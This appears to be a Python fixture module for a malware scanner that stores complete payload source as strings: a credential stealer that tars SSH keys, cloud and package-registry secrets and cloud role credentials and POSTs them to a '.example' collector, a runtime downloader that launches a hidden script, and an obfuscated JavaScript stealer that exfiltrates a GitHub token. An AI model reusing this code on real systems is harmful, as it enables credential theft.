"""The deeds of the payloads as text, in words of our own: what the static reader sees, and nothing runs.

Every host ends in `.example`. No text destroys, spreads or persists for real.
"""

from __future__ import annotations

COLLECT = """\
import glob
import io
import json
import os
import socket
import subprocess
import tarfile
import urllib.request

HOME = os.path.expanduser("~")
WANTED = (
    ".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/config", ".aws/credentials", ".aws/config",
    ".azure/accessTokens.json", ".config/gcloud/application_default_credentials.json",
    ".kube/config", ".docker/config.json", ".git-credentials", ".netrc", ".npmrc", ".pypirc",
    ".vault-token", ".pgpass", ".my.cnf", ".bash_history", ".zsh_history",
)


def metadata(path):
    request = urllib.request.Request("http://169.254.169.254/latest/" + path)
    try:
        return urllib.request.urlopen(request, timeout=2).read()
    except OSError:
        return b""


def gather():
    box = io.BytesIO()
    with tarfile.open(fileobj=box, mode="w:gz") as tar:
        for name in WANTED:
            path = os.path.join(HOME, name)
            if os.path.isfile(path):
                tar.add(path)
        for path in glob.glob(HOME + "/**/.env", recursive=True):
            tar.add(path)
        facts = json.dumps({"env": dict(os.environ), "host": socket.gethostname()}).encode()
        entry = tarfile.TarInfo("facts.json")
        entry.size = len(facts)
        tar.addfile(entry, io.BytesIO(facts))
        role = metadata("meta-data/iam/security-credentials/")
        entry = tarfile.TarInfo("role")
        entry.size = len(role)
        tar.addfile(entry, io.BytesIO(role))
    return box.getvalue()


def send(data):
    with open("/tmp/.gathered", "wb") as out:
        out.write(data)
    subprocess.run(
        ["curl", "-s", "-X", "POST", "https://models.collector.example/",
         "-H", "X-Filename: bundle.tar.gz", "--data-binary", "@/tmp/.gathered"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )


send(gather())
"""
"""Stage one: files, environment and the machine's role, into an archive, to a collector."""


def padded(text: str, size: int) -> str:
    """A text brought to a size by comments; published payloads are long."""
    line = "# {number:05d} inert filling, so that the size is that of the incident\n"
    more: list[str] = []
    length = len(text)
    number = 0
    while length + 72 < size:
        more.append(line.format(number=number))
        length += len(more[-1])
        number += 1
    return text + "".join(more)


FETCH_RUNTIME = """\
import os
import platform
import shutil
import stat
import subprocess
import tempfile
import urllib.request
import zipfile

VERSION = "1.3.13"
PAGE = "https://code-host.example/runtime/releases/download/v" + VERSION + "/"


def archive_name():
    machine = "aarch64" if platform.machine() in ("arm64", "aarch64") else "x64"
    return "runtime-" + platform.system().lower() + "-" + machine + ".zip"


def fetch(folder):
    target = os.path.join(folder, "runtime.zip")
    with urllib.request.urlopen(PAGE + archive_name(), timeout=120) as answer:
        with open(target, "wb") as out:
            shutil.copyfileobj(answer, out)
    with zipfile.ZipFile(target) as packed:
        packed.extractall(folder)
    found = os.path.join(folder, archive_name()[:-4], "runtime")
    os.chmod(found, os.stat(found).st_mode | stat.S_IXUSR)
    return found


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    runtime = shutil.which("runtime") or fetch(tempfile.mkdtemp())
    subprocess.Popen(
        [runtime, "run", os.path.join(here, "{script}")],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )


main()
"""
"""Brings another language's runtime and starts it on a script that lies beside."""


def script(size: int) -> str:
    """The bundled script: reads secrets, commits them to a repository; names in an array, as packers do."""
    head = (
        "const _0x1f=['env','homedir','/.aws/credentials','/.npmrc','/.ssh/id_rsa',"
        "'readFileSync','https://api.code-host.example/user/repos','authorization','POST'];\n"
        "const os=require('os'),fs=require('fs'),cp=require('child_process');\n"
        "const g={e:process[_0x1f[0]],f:[2,3,4].map(i=>{try{return fs[_0x1f[5]](os[_0x1f[1]]()"
        "+_0x1f[i],'utf8')}catch{return''}})};\n"
        "const t=cp.execSync('gh auth token',{stdio:'pipe'}).toString().trim();\n"
        "fetch(_0x1f[6],{method:_0x1f[8],headers:{[_0x1f[7]]:'token '+t},"
        "body:JSON.stringify({name:'results',description:Buffer.from(JSON.stringify(g))"
        ".toString('base64')})});\n"
    )
    row = "const _0x{number:06x}=['a1f3','{number:04x}','c9d0','77ee'];\n"
    rows = (row.format(number=number) for number in range(max(0, size - len(head)) // 46))
    return head + "".join(rows)
